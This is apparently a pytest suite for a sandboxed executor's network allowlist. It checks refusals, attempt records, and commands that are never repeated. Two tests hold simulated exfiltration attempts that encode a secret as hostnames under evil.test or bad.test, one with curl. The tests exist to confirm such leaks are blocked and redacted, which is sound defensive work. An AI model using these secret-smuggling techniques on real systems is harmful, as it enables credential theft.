"""Commands with network through the service: refused where they cannot have it, recorded, never run twice."""

from __future__ import annotations

import asyncio
import base64
import sqlite3
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from interlock.common.errors import InterlockError, Reason
from interlock.executor.sandbox.network.config import NetworkConfig
from interlock.v1 import executor_pb2 as pb
from interlock.v1 import step_pb2


class Server:
    """Counts requests; answers each, or holds it open until it is cut when `hold` is set."""

    def __init__(self) -> None:
        self.requests: list[bytes] = []
        self.hold = False
        self.asked = asyncio.Event()
        self.port = 0

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            self.requests.append(await reader.readuntil(b"\r\n\r\n"))
            self.asked.set()
            if self.hold:
                await reader.read()
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n")
        except (ConnectionError, asyncio.IncompleteReadError):
            return
        finally:
            writer.close()


@pytest.fixture
async def server() -> AsyncIterator[Server]:
    made = Server()
    listening = await asyncio.start_server(made.answer, "127.0.0.1", 0)
    made.port = listening.sockets[0].getsockname()[1]
    async with listening:
        yield made


@pytest.fixture
async def net(idle: Any, server: Server) -> Any:
    idle.env = {
        "INTERLOCK_NETWORK": "allowlist",
        "INTERLOCK_NETWORK_HOSTS": f"good.test:{server.port},*.inner.test:443",
        "INTERLOCK_NETWORK_RANGES": "127.0.0.0/8",
        "INTERLOCK_NETWORK_ADDRESSES": "good.test=127.0.0.1",
    }
    await idle.start()
    return idle


def hosts(server: Server) -> list[str]:
    return [f"good.test:{server.port}"]


async def test_what_it_did_is_in_the_effect(net: Any, act: Any, server: Server) -> None:
    ws = await net.workspace()
    line = f"curl -sS http://good.test:{server.port}/ > got; curl -s http://bad.test/; env | grep -c -i proxy=http"
    prepared = await net.prepare(ws, act.command(line, network=hosts(server)))
    assert prepared.state == pb.EFFECT_STATE_PREPARED
    report = prepared.effect.network
    assert (report.attempts_total, report.refused_total, report.problem) == (2, 1, "")
    good, bad = report.attempts
    assert (good.host, good.port, good.allowed, good.address) == ("good.test", server.port, True, "127.0.0.1")
    assert good.sent_bytes == len(server.requests[0])
    assert good.received_bytes > 0
    assert good.at.seconds > 0
    assert (bad.host, bad.port, bad.allowed, bad.reason) == ("bad.test", 80, False, "not_listed")
    assert prepared.effect.stdout.head.endswith(b"6\n")
    await net.apply(prepared)
    assert (net.live / "got").read_text() == "ok\n"
    assert '"host": "bad.test"' in net.child.log


async def test_without_network_there_is_no_report(net: Any, act: Any) -> None:
    prepared = await net.prepare(await net.workspace(), act.command("true"))
    assert not prepared.effect.HasField("network")


async def test_the_request_digest_covers_the_hosts_and_the_rules(net: Any, act: Any, server: Server) -> None:
    ws = await net.workspace()

    async def digest(*network: str) -> str:
        request = pb.ProposeRequest(key=net.key(), workspace_id=ws, action=act.command("x", network=network))
        return str((await net.call("Propose", request)).effect.request_digest)

    plain = [await digest(), await digest(*hosts(server)), await digest(*hosts(server), "a.inner.test:443")]
    assert len(set(plain)) == 3
    await net.restart(INTERLOCK_NETWORK_RANGES="127.0.0.0/8,10.0.0.0/8")
    wider = [await digest(), await digest(*hosts(server))]
    assert (wider[0] == plain[0], wider[1] == plain[1]) == (True, False)


@pytest.mark.parametrize(
    ("asked", "reason", "field"),
    [
        ("bad.test:443", Reason.NETWORK_NOT_AVAILABLE, "network[1]"),
        ("*.bad.test:443", Reason.NETWORK_NOT_AVAILABLE, "network[1]"),
        ("127.0.0.1:443", Reason.NETWORK_NOT_AVAILABLE, "network[1]"),
        ("127.1:443", Reason.INVALID_ARGUMENT, "network[1]"),
        ("good.test", Reason.INVALID_ARGUMENT, "network[1]"),
        ("*:443", Reason.INVALID_ARGUMENT, "network[1]"),
        ("u@good.test:443", Reason.INVALID_ARGUMENT, "network[1]"),
    ],
)
async def test_a_host_it_does_not_allow_is_refused_before_anything(
    net: Any, act: Any, server: Server, asked: str, reason: Reason, field: str
) -> None:
    ws = await net.workspace()
    with pytest.raises(InterlockError) as caught:
        await net.prepare(ws, act.command("true", network=["x.inner.test:443", asked]))
    assert (caught.value.reason, caught.value.field) == (reason, field)


@pytest.mark.parametrize(
    "env",
    [
        {"INTERLOCK_NETWORK": "on"},
        {"INTERLOCK_NETWORK_HOSTS": "good.test"},
        {"INTERLOCK_NETWORK_HOSTS": "127.1:80"},
        {"INTERLOCK_NETWORK_RANGES": "10.0.0.1/8"},
        {"INTERLOCK_NETWORK_ADDRESSES": "good.test=nowhere"},
        {"INTERLOCK_NETWORK_CONNECTIONS": "0"},
    ],
)
async def test_a_wrong_setting_is_named(env: dict[str, str]) -> None:
    with pytest.raises(InterlockError) as caught:
        NetworkConfig.from_env(env)
    assert caught.value.reason is Reason.INVALID_ARGUMENT
    assert caught.value.field == next(iter(env))


async def test_it_says_what_network_it_gives(net: Any, server: Server) -> None:
    info = await net.call("GetExecutorInfo", pb.GetExecutorInfoRequest())
    assert told(info).available
    assert (
        f"good.test:{server.port}, *.inner.test:443; not public, and allowed: 127.0.0.0/8"
        in told(info).detail
    )


SECRET = "Tr0ub4dor-And.3-Horses"

TELLS = """
import base64, os, socket
value = os.environ["T"]
names = [value, value.lower(), value.encode().hex(), base64.b32encode(value.encode()).decode().rstrip("="),
         base64.urlsafe_b64encode(value.encode()).decode().rstrip("=")]
names += [f"{name[:9]}.{name[9:]}" for name in names]
for name in names:
    for request in (f"CONNECT {name}.evil.test:443", f"CONNECT {name}", f"GET http://{name}.evil.test/"):
        with socket.create_connection(("127.0.0.1", 3128)) as s:
            s.sendall(f"{request} HTTP/1.1\\r\\n\\r\\n".encode())
            while s.recv(1000): pass
"""


async def test_a_secret_that_is_called_a_host_is_in_no_record_and_no_log(
    net: Any, act: Any, server: Server
) -> None:
    await net.restart(**net.env, INTERLOCK_SECRET_HORSE=SECRET)
    ws = await net.workspace()
    uses = [step_pb2.SecretUse(name="horse", appears_as="T")]
    action = act.command(f"python3 - <<'E'\n{TELLS}E\n", network=hosts(server), secrets=uses)
    prepared = await net.prepare(ws, action)
    assert prepared.effect.exit_code == 0, prepared.effect.stderr.head
    report = prepared.effect.network
    assert (report.attempts_total, report.refused_total) == (30, 30)
    assert {each.host for each in report.attempts} == {"[secret:horse]"}
    logged = net.child.log.replace(".", "").lower()
    shown = (prepared.effect.network.SerializeToString() + net.child.log.encode()).replace(b".", b"").lower()
    encoded = SECRET.encode()
    for form in (
        encoded,
        encoded.hex().encode(),
        base64.b32encode(encoded),
        base64.urlsafe_b64encode(encoded),
    ):
        assert form.rstrip(b"=").replace(b".", b"").lower() not in shown
    assert logged.count("[secret:horse]") >= 30


async def test_a_secret_among_the_hosts_of_a_request_is_refused(net: Any, act: Any) -> None:
    await net.restart(**net.env, INTERLOCK_SECRET_HORSE=SECRET)
    uses = [step_pb2.SecretUse(name="horse", appears_as="T")]
    asked = base64.b32encode(SECRET.encode()).decode().rstrip("=").lower() + ".inner.test:443"
    action = act.command("true", network=["a.inner.test:443", asked], secrets=uses)
    with pytest.raises(InterlockError) as caught:
        await net.prepare(await net.workspace(), action)
    assert (caught.value.reason, caught.value.field) == (Reason.SECRET_UNUSABLE, "network[1]")


def told(info: pb.GetExecutorInfoResponse) -> pb.ProbeResult:
    (found,) = [probe for probe in info.probes if probe.name == "network"]
    return found


async def test_without_a_setting_every_public_name_can_be_asked_for_and_no_address(
    idle: Any, act: Any
) -> None:
    await idle.start(INTERLOCK_NETWORK_ADDRESSES="local.test=127.0.0.1")
    ws = await idle.workspace()
    info = told(await idle.call("GetExecutorInfo", pb.GetExecutorInfoRequest()))
    assert (info.available, "what a step names and is approved" in info.detail) == (True, True)
    line = "curl -s -o /dev/null -w '%{http_connect} ' https://local.test:443/; "
    line += "curl -s -o /dev/null -w '%{http_code}' http://x.test/"
    prepared = await idle.prepare(ws, act.command(line, network=["local.test:443"]))
    assert prepared.effect.stdout.head == b"403 403"
    assert [each.reason for each in prepared.effect.network.attempts] == ["address_refused", "not_listed"]
    with pytest.raises(InterlockError) as caught:
        await idle.prepare(ws, act.command("true", network=["192.0.2.1:443"]))
    assert (caught.value.reason, caught.value.field) == (Reason.NETWORK_NOT_AVAILABLE, "network[0]")


async def test_switched_off_it_refuses_every_step_that_asks(idle: Any, act: Any) -> None:
    await idle.start(INTERLOCK_NETWORK="off")
    ws = await idle.workspace()
    with pytest.raises(InterlockError) as caught:
        await idle.prepare(ws, act.command("true", network=["example.org:443"]))
    assert caught.value.reason is Reason.NETWORK_NOT_AVAILABLE
    assert (await idle.prepare(ws, act.command("true"))).state == pb.EFFECT_STATE_PREPARED


async def test_a_step_in_a_container_of_its_own_has_it_too(net: Any, act: Any, server: Server) -> None:
    try:
        await net.restart(INTERLOCK_SANDBOX="oci", INTERLOCK_OCI_RUNTIME="runc")
    except (AssertionError, TimeoutError):
        pytest.skip("runc does not work here")
    line = (
        f"curl -sS http://good.test:{server.port}/; curl -s -o /dev/null -w '%{{http_code}}' http://bad.test/"
    )
    prepared = await net.prepare(await net.workspace(), act.command(line, network=hosts(server)))
    assert prepared.effect.stdout.head == b"ok\n403"
    assert (prepared.effect.network.attempts_total, prepared.effect.network.refused_total) == (2, 1)


async def test_a_backend_that_cannot_give_it_refuses(net: Any, act: Any, server: Server) -> None:
    try:
        await net.restart(INTERLOCK_SANDBOX="landlock")
    except (AssertionError, TimeoutError):
        pytest.skip("landlock does not work here")
    with pytest.raises(InterlockError) as caught:
        await net.prepare(await net.workspace(), act.command("true", network=hosts(server)))
    assert caught.value.reason is Reason.NETWORK_NOT_AVAILABLE
    assert "landlock" in caught.value.message


async def test_cut_off_by_a_kill_its_outcome_is_unknown_for_ever(net: Any, act: Any, server: Server) -> None:
    ws = await net.workspace()
    server.hold = True
    action = act.command(f"curl -s -X POST http://good.test:{server.port}/order", network=hosts(server))
    running = asyncio.create_task(net.prepare(ws, action))
    await server.asked.wait()
    await net.kill()
    with pytest.raises(InterlockError):
        await running
    server.hold = False
    for _ in range(2):
        await net.start()
        for _ in range(2):
            with pytest.raises(InterlockError) as caught:
                await net.prepare(ws, action)
            assert caught.value.reason is Reason.OUTCOME_UNKNOWN
        await net.kill()
    assert len(server.requests) == 1
    await net.start()
    again = await net.prepare(ws, action, attempt=2)
    assert again.state == pb.EFFECT_STATE_PREPARED
    assert len(server.requests) == 2


async def test_stopped_by_an_orderly_end_its_outcome_is_unknown_too(
    net: Any, act: Any, server: Server
) -> None:
    ws = await net.workspace()
    server.hold = True
    action = act.command(f"curl -s http://good.test:{server.port}/", network=hosts(server))
    running = asyncio.create_task(net.prepare(ws, action))
    await server.asked.wait()
    net.child.process.terminate()
    await net.child.process.wait()
    await asyncio.gather(running, return_exceptions=True)
    await net.start()
    with pytest.raises(InterlockError) as caught:
        await net.prepare(ws, action)
    assert caught.value.reason is Reason.OUTCOME_UNKNOWN


async def test_a_discarded_one_is_discarded(net: Any, act: Any, server: Server) -> None:
    ws = await net.workspace()
    server.hold = True
    action = act.command(f"curl -s http://good.test:{server.port}/", network=hosts(server))
    running = asyncio.create_task(net.prepare(ws, action))
    await server.asked.wait()
    answer = await net.discard()
    assert answer.state == pb.EFFECT_STATE_DISCARDED
    with pytest.raises(InterlockError) as caught:
        await running
    assert caught.value.reason is Reason.EFFECT_DISCARDED


async def test_a_result_that_cannot_be_kept_is_not_computed_again(
    net: Any, act: Any, server: Server, place: Path
) -> None:
    """Not even after a fault that nobody thought of: the command has acted, so nothing repeats it."""
    faulty = type(net)(place / "faulty")
    faulty.place.mkdir()
    await faulty.start(**net.env)
    ws = await faulty.workspace()
    server.hold = True
    action = act.command(f"curl -s --max-time 2 http://good.test:{server.port}/; true", network=hosts(server))
    running = asyncio.create_task(faulty.prepare(ws, action))
    await server.asked.wait()
    with sqlite3.connect(faulty.state / "effects.db") as db:
        refuse = "BEFORE INSERT ON effects WHEN NEW.state<>'preparing' BEGIN SELECT RAISE(ABORT, 'no'); END"
        db.execute(f"CREATE TRIGGER full {refuse}")
    with pytest.raises(InterlockError) as fault:
        await running
    with sqlite3.connect(faulty.state / "effects.db") as db:
        db.execute("DROP TRIGGER full")
    with pytest.raises(InterlockError) as caught:
        await faulty.prepare(ws, action)
    await faulty.close()
    assert (fault.value.reason, caught.value.reason) == (Reason.INTERNAL, Reason.OUTCOME_UNKNOWN)
    assert len(server.requests) == 1


async def test_a_secret_in_a_refused_name_is_not_recorded(net: Any, act: Any, server: Server) -> None:
    await net.restart(INTERLOCK_SECRET_KEY="planted7f3a9c")
    action = act.command("curl -s http://$KEY.bad.test/", network=hosts(server))
    use = action.run_command.secrets.add()
    use.name = use.appears_as = "KEY"
    prepared = await net.prepare(await net.workspace(), action)
    assert prepared.effect.network.refused_total == 1
    assert b"planted7f3a9c" not in prepared.SerializeToString()
    assert "planted7f3a9c" not in net.child.log
